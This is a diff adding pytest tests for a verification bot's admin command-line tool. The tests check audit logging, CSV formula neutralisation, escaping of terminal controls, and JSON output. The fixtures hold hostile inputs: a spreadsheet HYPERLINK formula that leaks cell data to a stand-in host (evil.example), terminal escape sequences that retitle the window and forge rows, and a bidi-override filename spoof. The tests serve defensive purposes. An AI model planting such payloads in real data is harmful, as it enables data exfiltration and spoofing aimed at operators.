@@ -2,11 +2,16 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
-from datetime import datetime
+import unicodedata
+from datetime import UTC, datetime
 
+from sqlalchemy import select
 from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
+from bot.db.models import AuthEvent, VerifiedUser
 from bot.demo.sandbox import FakeVerify
 from tests.helpers import HASH_KEY, Chat, login, run_cli
 
@@ -136,3 +141,147 @@ async def test_commands_that_hash_numbers_refuse_to_run_without_the_bots_key(
         env={"DATABASE_URL": database_url, "NUMBER_HASH_KEY": HASH_KEY},
     )
     assert shown.returncode == 0, shown.stderr
+
+
+async def _add_user(
+    db: async_sessionmaker[AsyncSession], chat_id: int, full_name: str, number: str
+) -> None:
+    async with db.begin() as session:
+        session.add(
+            VerifiedUser(
+                chat_id=chat_id,
+                user_id=chat_id,
+                phone_number=number,
+                username=None,
+                full_name=full_name,
+                verified_at=datetime(2026, 1, 1, chat_id % 24, tzinfo=UTC),
+            )
+        )
+
+
+async def _lookups(db: async_sessionmaker[AsyncSession]) -> list[AuthEvent]:
+    async with db() as session:
+        query = select(AuthEvent).where(AuthEvent.event == "admin_lookup").order_by(AuthEvent.id)
+        return list((await session.execute(query)).scalars().all())
+
+
+async def test_every_command_line_view_of_numbers_is_an_audited_lookup(
+    chat: Chat, verify: FakeVerify, database_url: str, db: async_sessionmaker[AsyncSession]
+) -> None:
+    await login(chat, verify)
+    env = {"DATABASE_URL": database_url, "NUMBER_HASH_KEY": HASH_KEY}
+    views = [
+        ("users", "list"),
+        ("users", "list", "--csv"),
+        ("users", "list", "--json"),
+        ("users", "list", "--jsonl"),
+        ("users", "show", str(chat.id)),
+        ("events",),
+        ("events", "--json"),
+        ("events", "--jsonl", "--chat", str(chat.id)),
+    ]
+    for args in views:
+        result = run_cli(*args, env=env)
+        assert result.returncode == 0, (args, result.stderr)
+    lookups = await _lookups(db)
+    assert len(lookups) == len(views)
+    assert all(e.detail and e.detail.startswith("by cli") for e in lookups)
+    details = [(e.detail or "").partition(": ")[2] for e in lookups]
+    assert details == ["users list"] * 4 + ["chat", "events", "events", "events"]
+    assert [e.chat_id for e in lookups][4:] == [chat.id, 0, 0, chat.id]
+
+
+async def test_csv_export_neutralises_formulas_but_keeps_the_number(
+    database_url: str, db: async_sessionmaker[AsyncSession]
+) -> None:
+    names = {
+        1: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        2: "+SUM(1,2)",
+        3: "-2+3",
+        4: "@SUM(A1)",
+        5: "\tTab",
+        6: "\rReturn",
+        7: "Ada = plain",
+    }
+    for chat_id, name in names.items():
+        await _add_user(db, chat_id, name, f"+4474001000{chat_id:02d}")
+    result = run_cli("users", "list", "--csv", env={"DATABASE_URL": database_url})
+    assert result.returncode == 0, result.stderr
+    rows = {int(row["chat_id"]): row for row in csv.DictReader(io.StringIO(result.stdout))}
+    for chat_id, name in names.items():
+        expected = name if chat_id == 7 else "'" + name
+        assert rows[chat_id]["full_name"] == expected, chat_id
+        # Our own E.164 numbers (a plus and digits: a number, never a formula) stay as they are.
+        assert rows[chat_id]["phone_number"] == f"+4474001000{chat_id:02d}"
+
+
+async def test_text_output_never_passes_terminal_controls_or_bidi_overrides(
+    database_url: str, db: async_sessionmaker[AsyncSession]
+) -> None:
+    names = {
+        41: "\x1b]0;pwned\x07\x1b[2J\nfake row",  # retitle and clear the terminal; forge a row
+        42: "Eve\u202etxt.exe\u2066",  # shows as "Eveexe.txt": bidi override and isolate
+        43: "\x9b31mC1",  # CSI as a single C1 control
+    }
+    for chat_id, name in names.items():
+        await _add_user(db, chat_id, name, f"+4474001000{chat_id:02d}")
+    env = {"DATABASE_URL": database_url, "NUMBER_HASH_KEY": HASH_KEY}
+    outputs = [run_cli("users", "list", env=env)]
+    outputs += [run_cli("users", "show", str(chat_id), env=env) for chat_id in names]
+    for result in outputs:
+        assert result.returncode == 0, result.stderr
+        unsafe = [
+            char
+            for char in result.stdout
+            if char != "\n" and unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp")
+        ]
+        assert unsafe == [], result.args
+    table, *shown = (result.stdout for result in outputs)
+    assert len(table.splitlines()) == 1 + len(names) + 1  # the newline forged no row
+    # Escaped, not dropped: the operator sees that something was there.
+    for text in (table, shown[0]):
+        assert "\\x1b]0;pwned\\x07\\x1b[2J\\nfake" in text
+    for text in (table, shown[1]):
+        assert "Eve\\u202etxt.exe\\u2066" in text
+    for text in (table, shown[2]):
+        assert "\\x9b31mC1" in text
+
+
+async def test_json_is_an_array_and_jsonl_one_object_per_line_on_every_command(
+    chat: Chat, verify: FakeVerify, database_url: str
+) -> None:
+    await login(chat, verify)
+    env = {"DATABASE_URL": database_url}
+
+    def lines(*args: str) -> list[dict[str, object]]:
+        result = run_cli(*args, env=env)
+        assert result.returncode == 0, result.stderr
+        return [json.loads(line) for line in result.stdout.splitlines()]
+
+    def array(*args: str) -> list[dict[str, object]]:
+        result = run_cli(*args, env=env)
+        assert result.returncode == 0, result.stderr
+        parsed = json.loads(result.stdout)
+        assert isinstance(parsed, list), args
+        return parsed
+
+    users = array("users", "list", "--json")
+    assert [u["phone_number"] for u in users] == ["+447400123123"]
+    assert lines("users", "list", "--jsonl") == users
+
+    events = array("events", "--chat", str(chat.id), "--json")
+    assert [e["event"] for e in events][:3] == ["login_started", "code_sent", "verified"]
+    later = lines("events", "--chat", str(chat.id), "--jsonl")
+    # The same trail, plus the lookup that the `--json` listing itself recorded.
+    assert later[: len(events)] == events
+    assert [e["event"] for e in later[len(events) :]] == ["admin_lookup"]
+    # A listing shows the trail as it was when asked, without its own lookup.
+    assert array("events", "--chat", "999", "--json") == []
+
+    stats = run_cli("stats", "--days", "1", "--json", env=env)
+    assert json.loads(stats.stdout)["total"]["verified"] == 1
+    (one,) = lines("stats", "--days", "1", "--jsonl")
+    assert one == json.loads(stats.stdout)
+    both = run_cli("events", "--json", "--jsonl", env=env)
+    assert both.returncode == 2
+    assert "not allowed with argument" in both.stderr
